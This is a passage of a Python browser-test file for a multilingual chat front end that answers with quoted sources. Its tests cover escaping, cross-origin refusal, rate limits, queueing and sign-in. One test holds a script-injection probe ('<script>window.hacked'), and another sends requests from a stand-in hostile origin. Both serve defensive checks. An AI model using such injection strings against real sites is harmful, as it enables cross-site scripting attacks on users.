    expect(page.locator("kilde-ask blockquote", has_text="<script>window.hacked")).to_have_count(1, timeout=WAIT)
    page.keyboard.press("Escape")
    expect(page.get_by_role("button", name=words["ask_here"])).to_be_focused()
    assert page.evaluate("window.hacked") is None and page.context.cookies() == []
    assert not errors
    page.context.close()
    site.shutdown()


def test_a_chat_front_end_of_openais_format_shows_the_answer_with_its_sources(chromium: Browser) -> None:
    """Gradio's own, which asks any server of that format."""
    import gradio as gr

    front = gr.load_chat(f"{served(FakeBot(), api=True)}/v1", model="kilde", token="none", file_types=None)
    _, address, _ = front.launch(prevent_thread_lock=True, quiet=True, server_name="127.0.0.1")
    page = chromium.new_page()
    try:
        page.goto(address)
        for language in ("sv", "ms"):
            page.get_by_role("textbox").fill(QUESTIONS[language])
            page.keyboard.press("Enter")
            expect(page.locator(".bot blockquote").last).to_contain_text(KEPT[language], timeout=WAIT)
            expect(page.locator(".bot").last).to_contain_text("https://docs.example.org/")
    finally:
        page.close()
        front.close()


def test_pages_of_other_sites_may_not_ask() -> None:
    kilde = served(FakeBot(), api=True)
    with urlopen(Request(f"{kilde}/api/words", headers={"Origin": "http://evil.example"})) as said:
        assert said.headers["access-control-allow-origin"] is None


def test_a_server_that_is_away_is_said_in_the_readers_language(chromium: Browser) -> None:
    visit = Visit(chromium, served(FakeBot()), "nl")
    visit.ask(QUESTIONS["nl"])
    visit.page.context.set_offline(True)
    visit.page.locator("#k-box textarea").fill("back-up")
    visit.page.keyboard.press("Enter")
    expect(visit.page.locator(".k-away")).to_have_text(locale("nl").page["away"], timeout=WAIT)
    visit.page.close()


def test_a_question_that_is_not_taken_says_why_and_nothing_is_lost(chromium: Browser, address: str) -> None:
    visit = Visit(chromium, address, "da")
    visit.ask(QUESTIONS["da"])
    asked: list[str] = []
    detail = locale("da").page["too_many"].format(seconds=7)
    refusal = {"status": 429, "content_type": "application/problem+json", "body": json.dumps({"detail": detail})}
    visit.page.route("**/queue/join?*", lambda route: (asked.append(route.request.url), route.fulfill(**refusal)))
    visit.page.locator("#k-box textarea").fill("Hvad koster det?")
    visit.page.keyboard.press("Enter")
    expect(visit.page.locator(".k-away")).to_have_text(detail, timeout=WAIT)
    visit.page.wait_for_timeout(500)  # what follows a failure has been done
    expect(visit.page.locator("#k-box textarea")).to_have_value("Hvad koster det?")
    expect(visit.page.locator(".toast-wrap")).to_be_hidden()
    expect(visit.page.locator(".k-problem")).to_have_count(0)  # the answer before is as it was
    assert visit.page.locator(".k-turn").count() == 1 and KEPT["da"] in visit.answer
    assert asked[0].endswith("?lang=da")
    visit.page.unroute("**/queue/join?*")
    visit.ask(QUESTIONS["da"])
    assert KEPT["da"] in visit.answer and not visit.errors
    visit.page.close()


def test_who_has_to_wait_sees_for_how_long_can_leave_and_is_answered(
    chromium: Browser, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("ui.page._AT_ONCE", 1)
    monkeypatch.setattr("ui.page._WAITING", 1)
    address = served(FakeBot())
    first, second, third = (Visit(chromium, address, code) for code in ("en", "sv", "ms"))
    for visit, question in ((first, "slow"), (second, QUESTIONS["sv"])):
        visit.page.locator("#k-box textarea").fill(question)
        visit.page.keyboard.press("Enter")
        expect(visit.page.locator(".k-working")).to_be_visible(timeout=WAIT)
    expect(second.page.locator(".k-working")).to_have_text(locale("sv").page["waiting"].format(number=1, seconds=1))
    third.ask(QUESTIONS["ms"])
    expect(third.page.locator(".k-problem")).to_have_text(locale("ms").page["busy"].format(seconds=1))
    expect(third.page.locator("#k-box textarea")).to_have_value(QUESTIONS["ms"])
    second.page.locator("#k-stop").click()
    expect(second.page.locator(".k-answer")).to_contain_text(locale("sv").page["stopped"])
    third.page.keyboard.press("Enter")
    expect(third.page.locator(".k-working")).to_contain_text(locale("ms").page["waiting"].partition("{")[0])
    first.page.locator("#k-stop").click()
    expect(third.page.locator(".k-quote").first).to_contain_text(KEPT["ms"], timeout=WAIT)
    for visit in (first, second, third):
        assert not visit.errors
        visit.page.close()


def test_a_taken_port_is_said_in_one_sentence() -> None:
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        port = taken.getsockname()[1]
        with pytest.raises(SettingError, match=f"{port}.*--port"):
            serve(FakeBot(), port=port)


def test_a_reader_signs_in_with_an_issuer_asks_and_signs_out(chromium: Browser, tmp_path: Path) -> None:
    language = "sv"
    (tmp_path / "visitors").write_text("oidc anna@example.org", encoding="utf-8")
    with issuing() as issuer:  # at another site than the page, as the browser sees it
        known = Issuer(issuer.address, CLIENT, Secret(SECRET))
        address = served(BOT, visitors=Visitors(Keys.of(tmp_path / "visitors"), known)).replace(
            "127.0.0.1", "localhost"
        )
        page, words = chromium.new_page(locale=language), locale(language).page
        page.set_default_timeout(WAIT)
        page.goto(address)
        expect(page).to_have_url(re.compile(re.escape(issuer.address)))
        page.get_by_role("button", name="Cancel").click()
        expect(page.get_by_role("alert")).to_have_text(words["sign_in_cancelled"])
        page.get_by_role("link", name=words["sign_in_with"].format(name="127.0.0.1")).click()
        page.get_by_label("Account").fill("anna")
        page.get_by_role("button", name="Go").click()
        expect(page.locator(".k-brand[data-ready]")).to_be_visible(timeout=WAIT)
        page.locator("#k-box textarea").fill(QUESTIONS[language])
        page.keyboard.press("Enter")
        expect(page.locator(".k-quote").first).to_contain_text(KEPT[language])
        page.goto(f"{address}/login")
        expect(page.locator("h1")).to_have_text(words["signed_in"].format(name="Anna@example.org"))
        page.get_by_role("button", name=words["sign_out"]).click()
        expect(page.get_by_role("link", name=words["sign_in_with"].format(name="127.0.0.1"))).to_be_visible()
        page.goto(address)
        expect(page).to_have_url(re.compile(re.escape(issuer.address)))
        page.close()
